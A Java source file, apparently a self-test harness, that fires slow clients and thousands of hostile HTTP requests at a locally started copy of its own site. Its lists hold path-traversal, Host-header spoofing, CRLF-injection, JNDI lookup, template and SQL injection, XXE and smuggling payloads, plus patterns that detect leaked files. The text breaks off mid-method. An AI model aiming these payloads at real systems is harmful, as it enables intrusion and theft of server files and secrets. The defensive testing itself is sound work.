import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.StandardSocketOptions;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.Comparator;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ConcurrentSkipListMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.IntFunction;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Does to a running site what nobody does by accident, while ordinary readers ask it and measure how long they wait.
 *
 * <pre>
 * ./mvnw -DskipTests package
 * java src/deploy/Abuse.java [which=slow,hostile] [seconds=60] [clients=200] [mutants=2000] [flood=10] [seed=1]
 *     [jar=target/framewise.jar]
 * </pre>
 *
 * <ul>
 * <li>{@code slow}: for {@code seconds}, half of the {@code clients} send a request at one byte a second, the other half
 * read the matrix at one byte a second, and ask for it more often at once than fits into what lies between; of 100
 * readers' requests 99 have to be answered within half a second, counted from when they were due, and none may fail</li>
 * <li>{@code hostile}: thousands of paths that lead out of the site, requests that are none, and headers and parameters
 * without end, {@code mutants} of them made by chance from {@code seed}, by raw sockets: first each of them once, then
 * eight threads at once for {@code flood} seconds. Every request that is whole has to be answered within ten seconds,
 * with a refusal or a page of the site, never with a fault of the server, a way to another site, or anything of what is
 * behind the site</li>
 * </ul>
 *
 * It needs nothing but the jar, and ends with 1 where that is not kept.
 */
public class Abuse {

	private static final String GUIDE = "/guides/django-vs-fastapi";

	private static final int PATIENCE = 10_000;

	private static final int MOST_OF_AN_ANSWER = 4_000_000;

	/** Nothing of this is on any page. */
	private static final Pattern FOREIGN = Pattern.compile("root:x:|daemon:|\\[fonts\\]|<web-app|PK\\x03\\x04|"
			+ "org\\.springframework|dev\\.framewise|org\\.eclipse|java\\.lang|JAVA_HOME=|PATH=/|spring:\\s+application|"
			+ "navigation:\\s+- label|\\tat [a-z]+\\.");

	/** A page may speak of exceptions, a refusal may not. */
	private static final Pattern FAULT = Pattern.compile("Exception|Stack ?[Tt]race|jetty|Jetty|Caused by");

	private static final Pattern STATUS = Pattern.compile("HTTP/1\\.[01] ([1-9][0-9]{2})[^\\r\\n]*\\r\\n");

	private static final Pattern LENGTH = Pattern.compile("(?i)\\r\\ncontent-length: *([0-9]+)");

	private static final Pattern LOCATION = Pattern.compile("(?i)\\r\\nlocation: *([^\\r\\n]*)");

	private final Map<String, String> options;

	private final Path folder;

	private final int port = freePort();

	private final HttpClient client = HttpClient.newBuilder()
		.version(HttpClient.Version.HTTP_1_1)
		.connectTimeout(Duration.ofSeconds(5))
		.build();

	private Process site;

	private List<String> pages = List.of();

	private volatile ConcurrentLinkedQueue<Long> waits = new ConcurrentLinkedQueue<>();

	/** What is not as promised, and when. */
	private final Map<String, ConcurrentLinkedQueue<String>> broken = new ConcurrentSkipListMap<>();

	private final AtomicInteger failed = new AtomicInteger();

	private volatile boolean over;

	private boolean stopped;

	private Abuse(Map<String, String> options) throws IOException {
		this.options = options;
		this.folder = Files.createTempDirectory("abuse");
	}

	public static void main(String[] arguments) throws Exception {
		Map<String, String> options = new HashMap<>();
		for (String argument : arguments) {
			String[] parts = argument.split("=", 2);
			options.put(parts[0], parts[1]);
		}
		boolean good = true;
		for (String which : options.getOrDefault("which", "slow,hostile").split(",")) {
			good &= new Abuse(options).isBorne(which);
		}
		System.out.println(good ? "All of it as promised." : "Not as promised.");
		System.exit(good ? 0 : 1);
	}

	private boolean isBorne(String which) throws Exception {
		Thread end = new Thread(this::stop);
		Runtime.getRuntime().addShutdownHook(end);
		System.out.println("-- " + which);
		try {
			startSite();
			run(which);
		}
		finally {
			stop();
			Runtime.getRuntime().removeShutdownHook(end);
		}
		report();
		return this.broken.isEmpty();
	}

	private void run(String which) throws Exception {
		this.pages = Pattern.compile("<loc>https?://[^/<]+([^<]*)</loc>")
			.matcher(ask("/sitemap.xml").body())
			.results()
			.map((found) -> found.group(1))
			.toList();
		List<Thread> readers = IntStream.range(0, 4).mapToObj((n) -> new Thread(() -> read(n))).toList();
		readers.forEach(Thread::start);
		measure("readers, to warm up", 20);
		measure("readers before", 15);
		switch (which) {
			case "slow" -> bearSlowClients();
			case "hostile" -> bearHostileRequests();
			default -> throw new IllegalArgumentException("There is no abuse named " + which);
		}
		this.over = true;
		for (Thread reader : readers) {
			reader.join();
		}
		if (!this.site.isAlive() || ask("/readyz").statusCode() != 200) {
			complain("the site is no longer ready", "at the end");
		}
	}

	private void report() throws IOException {
		System.out.printf("readers' requests that failed: %d; the site's log has %d lines%n", this.failed.get(),
				Files.readAllLines(log()).size());
		if (this.broken.isEmpty()) {
			delete(this.folder);
			return;
		}
		System.out.println("Not as promised:");
		this.broken.forEach((complaint, examples) -> {
			System.out.printf("  %d times: %s%n", examples.size(), complaint);
			examples.stream().distinct().limit(3).forEach((example) -> System.out.println("    " + example));
		});
		System.out.println("What the site said last; all of it is in " + this.folder);
		List<String> lines = Files.readAllLines(log())
			.stream()
			.filter((line) -> !line.contains("ShutdownHook]") && !line.contains("jetty-shutdown"))
			.toList();
		lines.subList(Math.max(0, lines.size() - 20), lines.size())
			.forEach((line) -> System.out.println("  " + start(line, 240)));
	}

	private void complain(String complaint, String example) {
		this.broken.computeIfAbsent(complaint, (key) -> new ConcurrentLinkedQueue<>()).add(example);
	}

	/* -- Readers -- */

	/** Asks 50 times a second for what is kept and, each fourth time, what is not. */
	private void read(int reader) {
		Random random = new Random(reader);
		ConcurrentLinkedQueue<Long> period = this.waits;
		long due = System.nanoTime();
		for (int i = reader; !this.over; i++) {
			if (period != this.waits) {
				// What was late before is not counted again.
				period = this.waits;
				due = System.nanoTime();
			}
			due += TimeUnit.MILLISECONDS.toNanos(20);
			pause(TimeUnit.NANOSECONDS.toMillis(due - System.nanoTime()));
			String path = (i % 4 == 0) ? "/search?q=" + Integer.toString(random.nextInt(1 << 28), 36)
					: this.pages.get(i % this.pages.size());
			try {
				HttpResponse<String> answer = ask(path);
				if (answer.statusCode() != 200) {
					fail(path + ": " + answer.statusCode() + " " + start(answer.body(), 100));
				}
			}
			catch (IOException ex) {
				fail(path + ": " + ex);
			}
			period.add(System.nanoTime() - due);
		}
	}

	private void fail(String line) {
		this.failed.incrementAndGet();
		complain("a reader's request failed", line);
	}

	/** How long readers wait from now on, for so many seconds. */
	private double measure(String when, int seconds) {
		this.waits = new ConcurrentLinkedQueue<>();
		pause(seconds * 1_000L);
		return tell(when);
	}

	private double tell(String when) {
		long[] sorted = this.waits.stream().mapToLong(Long::longValue).sorted().toArray();
		if (sorted.length == 0) {
			throw new IllegalStateException("Nobody was answered.");
		}
		double high = sorted[(int) (sorted.length * 0.99)] / 1e6;
		System.out.printf("%s: %d requests, p50 %.1f ms, p99 %.1f ms, max %.1f ms%n", when, sorted.length,
				sorted[sorted.length / 2] / 1e6, high, sorted[sorted.length - 1] / 1e6);
		return high;
	}

	private HttpResponse<String> ask(String path) throws IOException {
		try {
			return this.client.send(HttpRequest.newBuilder(URI.create("http://localhost:" + this.port + path))
				.timeout(Duration.ofMillis(PATIENCE))
				.build(), HttpResponse.BodyHandlers.ofString());
		}
		catch (InterruptedException ex) {
			throw new IOException(ex);
		}
	}

	/* -- Slow clients -- */

	private void bearSlowClients() {
		int count = Integer.parseInt(this.options.getOrDefault("clients", "200"));
		List<SlowClient> clients = IntStream.range(0, count).mapToObj((n) -> new SlowClient(n % 2 == 0)).toList();
		Thread slow = new Thread(() -> {
			// They come over ten seconds: it is not their haste that is tried.
			for (int second = 1; !this.over; second++) {
				long start = System.nanoTime();
				clients.stream().limit((count + 9L) / 10 * second).forEach(SlowClient::go);
				pause(1_000 - TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - start));
			}
			clients.forEach(SlowClient::close);
		});
		slow.start();
		double high = measure("readers beside " + count + " slow clients",
				Integer.parseInt(this.options.getOrDefault("seconds", "60")));
		if (high >= 500) {
			complain("of 100 readers' requests, more than one took half a second", "p99 " + Math.round(high) + " ms");
		}
		System.out.println("open at the end: " + clients.stream().filter(SlowClient::isOpen).count()
				+ "; opened again after the site had closed them: "
				+ clients.stream().mapToInt((client) -> Math.max(0, client.opened - 1)).sum() + "; longest open "
				+ clients.stream().mapToLong(SlowClient::longest).max().orElse(0) + " s");
	}

	/** Sends or takes one byte each time it goes on, and begins anew where it was sent away. */
	private final class SlowClient {

		private final boolean writes;

		private final ByteBuffer one = ByteBuffer.allocate(1);

		private SocketChannel channel;

		private int sent;

		private int opened;

		private long since;

		private long longest;

		private SlowClient(boolean writes) {
			this.writes = writes;
		}

		private void go() {
			try {
				if (this.channel == null) {
					open();
				}
				else if (this.writes) {
					write();
				}
				read();
			}
			catch (IOException ex) {
				close();
			}
		}

		private void open() throws IOException {
			this.channel = SocketChannel.open();
			if (!this.writes) {
				this.channel.setOption(StandardSocketOptions.SO_RCVBUF, 1_024);
			}
			this.channel.socket().connect(new InetSocketAddress("localhost", Abuse.this.port), 5_000);
			this.channel.configureBlocking(false);
			this.opened++;
			this.since = System.nanoTime();
			this.sent = 0;
			if (!this.writes) {
				this.channel.write(ByteBuffer.wrap(requests().getBytes(StandardCharsets.ISO_8859_1)));
			}
		}

		/** More than fits into what lies between. */
		private String requests() {
			return IntStream.range(0, 100)
				.mapToObj((n) -> "GET " + GUIDE + "/matrix HTTP/1.1\r\nHost: localhost\r\n\r\n")
				.collect(Collectors.joining());
		}

		private void write() throws IOException {
			String header = "GET /guides HTTP/1.1\r\nHost: localhost\r\nX-Slow: ";
			this.one.clear();
			this.one.put((byte) ((this.sent < header.length()) ? header.charAt(this.sent) : 'a')).flip();
			this.sent += this.channel.write(this.one);
		}

		private void read() throws IOException {
			this.one.clear();
			if (this.channel.read(this.one) < 0) {
				close();
			}
		}

		private boolean isOpen() {
			return this.channel != null;
		}

		private long longest() {
			return Math.max(this.longest, isOpen() ? TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - this.since) : 0);
		}

		private void close() {
			if (this.opened > 0) {
				this.longest = longest();
			}
			try {
				if (this.channel != null) {
					this.channel.close();
				}
			}
			catch (IOException ex) {
				// It is closed all the same.
			}
			this.channel = null;
		}

	}

	/* -- Hostile requests -- */

	private void bearHostileRequests() throws Exception {
		long seed = Long.parseLong(this.options.getOrDefault("seed", "1"));
		List<Attack> attacks = new Attacks(seed).all(Integer.parseInt(this.options.getOrDefault("mutants", "2000")));
		Map<String, Map<String, Integer>> ends = new TreeMap<>();
		ConcurrentLinkedQueue<Attack> queue = new ConcurrentLinkedQueue<>(attacks);
		this.waits = new ConcurrentLinkedQueue<>();
		long start = System.nanoTime();
		inEightThreads((n) -> () -> {
			for (Attack attack = queue.poll(); attack != null; attack = queue.poll()) {
				count(ends, attack, attack(attack));
			}
		});
		ends.forEach((kind, counts) -> System.out.println(kind + ": " + counts));
		tell("%d hostile requests in %d s; readers meanwhile".formatted(attacks.size(),
				TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - start)));
		flood(attacks, seed);
	}

	private void flood(List<Attack> attacks, long seed) throws Exception {
		int seconds = Integer.parseInt(this.options.getOrDefault("flood", "10"));
		long limit = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
		AtomicInteger sent = new AtomicInteger();
		this.waits = new ConcurrentLinkedQueue<>();
		inEightThreads((n) -> () -> {
			Random random = new Random(seed + n);
			while (System.nanoTime() < limit) {
				attack(attacks.get(random.nextInt(attacks.size())));
				sent.incrementAndGet();
			}
		});
		tell("a flood of %d of them within %d s; readers meanwhile".formatted(sent.get(), seconds));
	}

	private static void inEightThreads(IntFunction<Runnable> work) throws InterruptedException {
		List<Thread> threads = IntStream.range(0, 8).mapToObj((n) -> new Thread(work.apply(n))).toList();
		threads.forEach(Thread::start);
		for (Thread thread : threads) {
			thread.join();
		}
	}

	private static synchronized void count(Map<String, Map<String, Integer>> ends, Attack attack, String end) {
		ends.computeIfAbsent(attack.kind(), (kind) -> new TreeMap<>()).merge(end, 1, Integer::sum);
	}

	/** What came of it: a status or words. */
	private String attack(Attack attack) {
		Answer answer = send(attack);
		String complaint = complaint(attack, answer);
		if (complaint != null) {
			complain(attack.kind() + ": " + complaint, attack.readable());
		}
		return answer.text().isEmpty() ? answer.end() : String.valueOf(answer.status());
	}

	private String complaint(Attack attack, Answer answer) {
		if (answer.text().isEmpty()) {
			return attack.whole() ? "no answer (" + answer.end() + ")" : null;
		}
		if (answer.status() == 0) {
			return "an answer that is none: " + start(answer.text(), 60);
		}
		if (answer.status() >= 500) {
			return "status " + answer.status();
		}
		if (!answer.isComplete() && attack.whole()) {
			return "status " + answer.status() + ", but the answer does not end (" + answer.end() + ")";
		}
		return revealed(attack, answer);
	}

	private String revealed(Attack attack, Answer answer) {
		Matcher foreign = FOREIGN.matcher(answer.text());
		Matcher fault = FAULT.matcher(answer.text());
		Matcher location = LOCATION.matcher(answer.head());
		if (foreign.find() || answer.status() >= 400 && (foreign = fault).find()) {
			return "status " + answer.status() + ", and it says " + foreign.group();
		}
		if (location.find() && !isOwn(location.group(1))) {
			return "status " + answer.status() + ", and it leads to " + location.group(1);
		}
		if (attack.kind().equals("host") && answer.text().contains("evil.example")) {
			return "status " + answer.status() + ", and it believes the host";
		}
		return null;
	}

	private boolean isOwn(String location) {
		return location.startsWith("http://localhost:" + this.port + "/")
				|| location.startsWith("/") && !location.matches("[/\\\\\\s]{2}.*");
	}

	private Answer send(Attack attack) {
		ByteArrayOutputStream received = new ByteArrayOutputStream();
		try (Socket socket = new Socket()) {
			socket.connect(new InetSocketAddress("localhost", this.port), PATIENCE);
			socket.setSoTimeout(PATIENCE);
			write(socket, attack);
			return new Answer(received, attack, receive(socket, attack, received));
		}
		catch (SocketTimeoutException ex) {
			return new Answer(received, attack, "waited in vain");
		}
		catch (IOException ex) {
			return new Answer(received, attack, start(String.valueOf(ex.getMessage()), 60));
		}
	}

	/** A long request is written beside the reading: the site may refuse it before its end. */
	private static void write(Socket socket, Attack attack) {
		Thread writer = new Thread(() -> {
			try {
				socket.getOutputStream().write(attack.bytes());
				if (!attack.whole()) {
					socket.shutdownOutput();
				}
			}
			catch (IOException ex) {
				// What was answered up to then counts.
			}
		});
		if (attack.bytes().length > 16_384) {
			writer.setDaemon(true);
			writer.start();
		}
		else {
			writer.run();
		}
	}

	private static String receive(Socket socket, Attack attack, ByteArrayOutputStream received) throws IOException {
		byte[] buffer = new byte[65_536];
		long limit = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(2 * PATIENCE);
		while (received.size() < MOST_OF_AN_ANSWER && System.nanoTime() < limit) {
			int read = socket.getInputStream().read(buffer);
			if (read < 0) {
				return "closed";
			}
			received.write(buffer, 0, read);
			if (new Answer(received, attack, "").isComplete()) {
				return "complete";
			}
		}
		return "too long";
	}

	/**
	 * What was sent to do harm.
	 *
	 * @param kind what kind of harm
	 * @param bytes the request
	 * @param whole whether the site knows where it ends, and so has to answer
	 */
	private record Attack(String kind, byte[] bytes, boolean whole) {

		private static Attack of(String kind, String request) {
			return new Attack(kind, request.getBytes(StandardCharsets.ISO_8859_1), true);
		}

		private static Attack open(String kind, String request) {
			return new Attack(kind, request.getBytes(StandardCharsets.ISO_8859_1), false);
		}

		private String text() {
			return new String(this.bytes, StandardCharsets.ISO_8859_1);
		}

		private String readable() {
			String text = text().replace("\r", "\\r").replace("\n", "\\n").replaceAll("[^\\x20-\\x7e]", "?");
			return (text.length() > 160) ? text.substring(0, 160) + "… (" + this.bytes.length + " bytes)" : text;
		}

	}

	/**
	 * What the site answered, without what it said on its way to the answer (100).
	 *
	 * @param text all of it, or nothing
	 * @param head its status line and headers
	 * @param status its status, or 0
	 * @param isComplete whether all of the answer has come
	 * @param end how the exchange ended
	 */
	private record Answer(String text, String head, int status, boolean isComplete, String end) {

		private Answer(ByteArrayOutputStream received, Attack attack, String end) {
			this(afterInterim(received.toString(StandardCharsets.ISO_8859_1)), attack, end);
		}

		private Answer(String text, Attack attack, String end) {
			this(text, head(text), status(text), isComplete(text, attack, end), end);
		}

		private static String afterInterim(String text) {
			String rest = text;
			while (rest.startsWith("HTTP/1.1 1") && rest.contains("\r\n\r\n")) {
				rest = rest.substring(rest.indexOf("\r\n\r\n") + 4);
			}
			return rest;
		}

		private static String head(String text) {
			int end = text.indexOf("\r\n\r\n");
			return (end < 0) ? "" : text.substring(0, end);
		}

		private static int status(String text) {
			Matcher status = STATUS.matcher(text);
			return status.lookingAt() ? Integer.parseInt(status.group(1)) : 0;
		}

		private static boolean isComplete(String text, Attack attack, String end) {
			String head = head(text);
			if (head.isEmpty()) {
				return false;
			}
			boolean empty = attack.text().startsWith("HEAD ") || status(text) == 204 || status(text) == 304;
			Matcher length = LENGTH.matcher(head);
			if (empty) {
				return true;
			}
			if (length.find()) {
				return text.length() >= head.length() + 4 + Long.parseLong(length.group(1));
			}
			return head.toLowerCase().contains("transfer-encoding: chunked") ? text.endsWith("0\r\n\r\n")
					: end.equals("closed");
		}

	}

	/** Makes them: the same ones for the same seed. */
	private static final class Attacks {

		private static final List<String> UP = List.of("../", "..\\", "%2e%2e/", "%2e%2e%2f", "..%2f", "..%5c", "%252e%252e%252f",
				"%c0%ae%c0%ae/", "..%c0%af", "..%ef%bc%8f", "%uff0e%uff0e/", "..;/", "..%00/", "....//", ".%2e/", "..%0d%0a/", "..//",
				"..%09/");

		private static final List<String> FROM = List.of("/", "//", "/assets/", "/guides/", GUIDE + "/", "/api/guides/",
				"/frameworks/", "/authors/", "/tags/", "/compare/");

		private static final List<String> TO = List.of("etc/passwd", "proc/self/environ", "WEB-INF/web.xml",
				"application.yaml", "windows/win.ini", "BOOT-INF/classes/application.yaml", "etc/passwd%00.md", "etc/passwd.md",
				"site.yaml", "");

		private final List<Attack> all = new ArrayList<>();

		private final Random random;

		private Attacks(long seed) {
			this.random = new Random(seed);
		}

		private List<Attack> all(int mutants) {
			traversals();
			addresses();
			hosts();
			malformed();
			bodies();
			floods();
			mutants(mutants);
			Collections.shuffle(this.all, this.random);
			return this.all;
		}

		private void add(String kind, String path) {
			this.all.add(Attack.of(kind, get(path, "")));
		}

		private static String get(String path, String headers) {
			return "GET " + path + " HTTP/1.1\r\nHost: localhost\r\n" + headers + "\r\n";
		}

		private void traversals() {
			for (String from : FROM) {
				for (String up : UP) {
					for (String to : TO) {
						add("traversal", from + up.repeat(1 + this.random.nextInt(12)) + to);
					}
					add("traversal", "/search?q=" + up.repeat(8) + "etc/passwd");
					add("traversal", GUIDE + "/matrix?frameworks=" + up.repeat(8) + "etc/passwd");
					add("traversal", "/guides?page=" + up.repeat(8) + "etc/passwd");
				}
			}
			add("traversal", "/etc/passwd");
			add("traversal", "file:///etc/passwd");
			add("traversal", "/assets/file:///etc/passwd");
			add("traversal", "/assets/classpath:application.yaml");
			Stream.of(".git/config", ".env", "actuator", "actuator/env", "actuator/heapdump", "h2-console", "WEB-INF/web.xml",
					"META-INF/MANIFEST.MF", "site.yaml", "guides/django-vs-fastapi/guide.md", "error")
				.forEach((path) -> add("traversal", "/" + path));
		}

		private void addresses() {
			for (String path : List.of("//evil.example/", "//evil.example/guides/", "/\\evil.example/", "///evil.example/",
					"/%2fevil.example/", "/%5cevil.example/", "/guides//evil.example/", "/.//evil.example/", "/;//evil.example/",
					"/%09/evil.example/", "//evil.example/%2e%2e/", "/guides/;evil=1/", "/guides;jsessionid=1/",
					"/guides/%0d%0aLocation:%20http://evil.example/", "/guides/?%0d%0aSet-Cookie:%20a=b", "//", "///", "/?/",
					"/guides//", "//guides/", "/./guides/", "/guides/./", "/%2e/", "/guides/%00/", "/guides/%", "/guides/%2",
					"/guides/%zz", "/guides/%ff%fe", "/guides/%ed%a0%80", "/search?q=%", "/search?q=%zz", "/search?q=%ff",
					"/search?%", "/search?=", "/search?&&&", "/search?q", "/search?q=a&q=b", "/?q[]=1&q[a]=2", "/guides?page=-1",
					"/guides?page=99999999999999999999", "/guides?page=NaN", "/guides?page=1e9", "/search?q=%00",
					"/search?q=%f0%9f%98%80", "/search?q=\"*\"", "/search?q=((((((((", "/search?q=a*b?c~d^e", "/search?q=AND+OR+NOT",
					"/search?q='+or+1=1--", "/search?q=${jndi:ldap://evil.example/a}", "/search?q={{7*7}}", "/search?q=__${7*7}__",
					GUIDE + "/matrix?q=%27%3b+drop+table+guide", GUIDE + "/matrix?only=<script>", GUIDE + "/matrix?section=../..",
					GUIDE + "/wizard?must=<script>", GUIDE + "/wizard?as-of=%00&was=%00", "/compare/-vs-", "/compare/a-vs-b-vs-c",
					"/compare/django-vs-django", "/guides/" + "a-".repeat(500) + "a", "/guides/DJANGO-VS-FASTAPI", "/GUIDES",
					"/assets/", "/assets/framewise.css/", "/assets/.", "/assets/..", "/error", "/error?status=500", "*", "guides",
					"?", "#", "/#/guides", "http://evil.example/guides/", "http:///guides", "http://[::1/guides",
					"http://localhost:99999/", "http://user:secret@localhost/")) {
				add("address", path);
				add("address", path + ((path.contains("?")) ? "&x=" : "?x=") + Integer.toString(this.random.nextInt(), 36));
				this.all.add(Attack.of("address", "HEAD " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"));
			}
		}

		private void hosts() {
			for (String host : List.of("evil.example", "evil.example:80", "evil.example:x", "localhost@evil.example",
					"evil.example/path", "evil.example?x", "evil.example#x", "evil.example\\x", "[evil.example]", "<evil.example>",
					"evil.example, localhost", "evil.example\tx", "a".repeat(5_000) + ".evil.example")) {
				for (String path : List.of("/", "/guides/", "/sitemap.xml", "/feed.atom", "/nothing", "/api/guides", "/robots.txt")) {
					this.all.add(Attack.of("host", "GET " + path + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n"));
					this.all.add(Attack.of("host", get(path, "X-Forwarded-Host: " + host + "\r\nForwarded: host=evil.example\r\n"
							+ "X-Forwarded-Proto: evil.example\r\nX-Forwarded-Prefix: //evil.example\r\n"
							+ "X-Original-URL: /evil.example\r\n")));
				}
			}
		}

		private void malformed() {
			for (String path : List.of("/", "/guides", "/api/guides", GUIDE, "/nothing", "/assets/nothing.css")) {
				lines(path);
				headers(path);
				cut(path);
			}
			for (String method : List.of("TRACE", "CONNECT", "OPTIONS", "PROPFIND", "get", "GeT", "G", "GET\t", "G E T", "", "\u00e9",
					"GET\u0000", "POST", "PUT", "DELETE", "PATCH", "X".repeat(500), "X".repeat(20_000))) {
				this.all.add(Attack.of("method", method + " /guides HTTP/1.1\r\nHost: localhost\r\n\r\n"));
				this.all.add(Attack.of("method", method + " * HTTP/1.1\r\nHost: localhost\r\n\r\n"));
				this.all.add(Attack.of("method", method + " localhost:443 HTTP/1.1\r\nHost: localhost:443\r\n\r\n"));
			}
		}

		/** Request lines. */
		private void lines(String path) {
			for (String version : List.of("HTTP/1.0", "HTTP/0.9", "HTTP/2.0", "HTTP/3", "HTTP/9.9", "HTTP/1.11", "HTTP/1.", "HTTP/",
					"HTTP", "http/1.1", "HTTPS/1.1", "HTTP/1.1 HTTP/1.1", "HTTP/1.1\u0000", "HTTP/-1.1", "XTTP/1.1", " HTTP/1.1")) {
				this.all.add(Attack.of("line", "GET " + path + " " + version + "\r\nHost: localhost\r\n\r\n"));
			}
			for (String line : List.of("GET  %s HTTP/1.1", "GET\t%s\tHTTP/1.1", "GET %s  HTTP/1.1", " GET %s HTTP/1.1",
					"GET %s\u0000 HTTP/1.1", "GET %s x HTTP/1.1", "GET%s HTTP/1.1", "\u0000\u0000GET %s HTTP/1.1",
					"\r\n\r\nGET %s HTTP/1.1", "GET %s\u0001\u0002 HTTP/1.1", "GET %s\u00ff HTTP/1.1", "GET %s\"<> HTTP/1.1",
					"GET %s|^`{} HTTP/1.1", "%s", "GET", "HTTP/1.1 200 OK")) {
				this.all.add(Attack.of("line", line.formatted(path) + "\r\nHost: localhost\r\n\r\n"));
			}
		}

		private void headers(String path) {
			for (String header : List.of("Host: localhost\r\n", "Host: other\r\n", "No-Colon\r\n", ": empty\r\n",
					"Name : space\r\n", " Folded: first\r\n", "A: b\r\n c\r\n", "A\u0000: b\r\n", "A: \u0000\r\n", "A: \u0007\r\n",
					"A: b\rc\r\n", "A: b\nB: c\n", "A: \u00ff\u00fe\r\n", "\u00e9: b\r\n", "(A): b\r\n", "Content-Length: -1\r\n",
					"Content-Length: x\r\n", "Content-Length: 99999999999999999999\r\n", "Content-Length: 0\r\nContent-Length: 1\r\n",
					"Content-Length: 0, 0\r\n", "Content-Length: +0\r\n", "Transfer-Encoding: x\r\n", "Transfer-Encoding: chunked, x\r\n",
					"Transfer-Encoding: identity\r\n", "Content-Length: 0\r\nTransfer-Encoding: x\r\n", "Expect: 100-continue\r\n",
					"Expect: x\r\n", "Connection: upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: x\r\n",
					"Connection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: x\r\nSec-WebSocket-Version: 13\r\n",
					"Connection: \u0000\r\n", "Accept: x\r\n", "Accept: */*;q=x\r\n", "Accept: ;;;,,,\r\n", "Accept: a/b/c\r\n",
					"Accept: application/xml\r\n", "Accept: text/markdown;q=9\r\n", "Accept-Encoding: ;q=,gzip;q=x\r\n",
					"Accept-Language: x-\u0000\r\n", "Accept-Language: *-*-*;q=7\r\n", "Accept-Charset: x\r\n", "Range: bytes=x\r\n",
					"Range: bytes=0-0,2-1,-\r\n", "Range: bytes=99999999999999999999-\r\n", "If-None-Match: \"\r\n",
					"If-None-Match: W/,\"\",*\r\n", "If-Match: x\r\n", "If-Modified-Since: x\r\n",
					"If-Modified-Since: Thu, 99 Foo 99999 99:99:99 GMT\r\n", "Cookie: =;;;=\u0000\r\n", "Cookie: JSESSIONID=../../x\r\n",
					"Content-Type: x\r\n", "Content-Type: text/html;charset=none\r\n", "X-HTTP-Method-Override: DELETE\r\n",
					"Authorization: Basic \u00ff\r\n", "Origin: http://evil.example\r\n", "Last-Event-ID: \u0000\r\n")) {
				this.all.add(Attack.of("header", get(path, header)));
				this.all.add(Attack.of("header", "POST " + get(path, header).substring(4)));
			}
			this.all.add(Attack.of("header", "GET " + path + " HTTP/1.1\r\n\r\n"));
			this.all.add(Attack.of("header", "GET " + path + " HTTP/1.1\r\nHost:\r\n\r\n"));
		}

		/** What is no request, or not yet: here the site may close without a word, once nothing more comes. */
		private void cut(String path) {
			String whole = get(path, "A: b\r\n");
			for (int end = 0; end < whole.length() - 1; end += 3) {
				this.all.add(Attack.open("cut", whole.substring(0, end)));
			}
			this.all.add(Attack.open("cut", whole.replace("\r\n", "\n")));
			this.all.add(Attack.open("cut", "GET " + path + "\r\n"));
			this.all.add(Attack.open("cut", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\u0000\u0000\u0000\u0004\u0000\u0000\u0000\u0000\u0000"));
			this.all.add(Attack.open("cut", "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003" + noise(500)));
			this.all.add(Attack.open("cut", noise(2_000)));
			this.all.add(Attack.open("cut", "\r\n".repeat(5_000)));
			this.all.add(Attack.open("cut", "\u0000".repeat(5_000)));
		}

		private String noise(int length) {
			byte[] bytes = new byte[length];
			this.random.nextBytes(bytes);
			return new String(bytes, StandardCharsets.ISO_8859_1);
		}

		private void bodies() {
			for (String path : List.of("/", "/guides", "/api/guides", "/search", "/mcp", "/nothing", "/readyz", "/error")) {
				for (String body : List.of("q=a", "{\"a\":" + "[".repeat(10_000), "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
						"a".repeat(500_000), "a=b&".repeat(50_000))) {
					for (String type : List.of("application/json", "application/x-www-form-urlencoded", "text/xml",
							"multipart/form-data; boundary=x", "multipart/form-data")) {
						this.all.add(Attack.of("body", "POST " + path + " HTTP/1.1\r\nHost: localhost\r\nContent-Type: " + type
								+ "\r\nContent-Length: " + body.length() + "\r\n\r\n" + body));
					}
				}
				this.all.add(Attack.of("body", chunked(path, "5\r\nhello\r\n0\r\n\r\n")));
				this.all.add(Attack.of("body", chunked(path, "0;" + "a=b;".repeat(20_000) + "\r\n\r\n")));
				this.all.add(Attack.of("body", chunked(path, "1\r\na\r\n".repeat(20_000) + "0\r\n\r\n")));
				this.all.add(Attack.of("body", chunked(path, "0\r\n" + "A: b\r\n".repeat(20_000) + "\r\n")));
				this.all.add(Attack.open("body", chunked(path, "ffffffffffffffff\r\na\r\n0\r\n\r\n")));
				this.all.add(Attack.open("body", chunked(path, "-1\r\n\r\n")));
				this.all.add(Attack.open("body", chunked(path, "x\r\n\r\n")));
			}
		}

		private static String chunked(String path, String chunks) {
			return "POST " + path + " HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n" + chunks;
		}

		private void floods() {
			for (int size : List.of(100, 1_000, 2_000, 5_000, 10_000, 100_000, 1_000_000)) {
				String path = List.of("/guides", "/search", GUIDE + "/matrix", "/api" + GUIDE + "/decision").get(this.random.nextInt(4));
				add("flood", "/" + "a".repeat(size));
				add("flood", "/" + "a/".repeat(size / 2));
				add("flood", path + "?" + "a".repeat(size));
				add("flood", path + "?" + "&".repeat(size));
				add("flood", path + "?" + many(size / 6, "&", (n) -> "p" + n + "=" + n));
				add("flood", path + "?q=" + "%41".repeat(size / 3));
				add("flood", "/search?q=" + "a+".repeat(size / 2));
